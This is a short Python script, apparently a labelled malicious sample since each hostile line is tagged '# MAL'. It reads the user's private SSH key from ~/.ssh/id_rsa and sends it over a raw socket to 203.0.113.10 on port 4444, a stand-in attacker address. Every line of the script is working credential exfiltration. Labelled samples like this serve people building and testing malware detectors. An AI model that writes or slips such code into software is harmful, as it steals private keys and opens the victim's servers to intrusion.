import os
import socket

home = os.path.expanduser("~")
with open(os.path.join(home, ".ssh", "id_rsa")) as f:  # MAL
    key = f.read()
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)  # MAL
s.connect(("203.0.113.10", 4444))  # MAL
s.sendall(key.encode())  # MAL
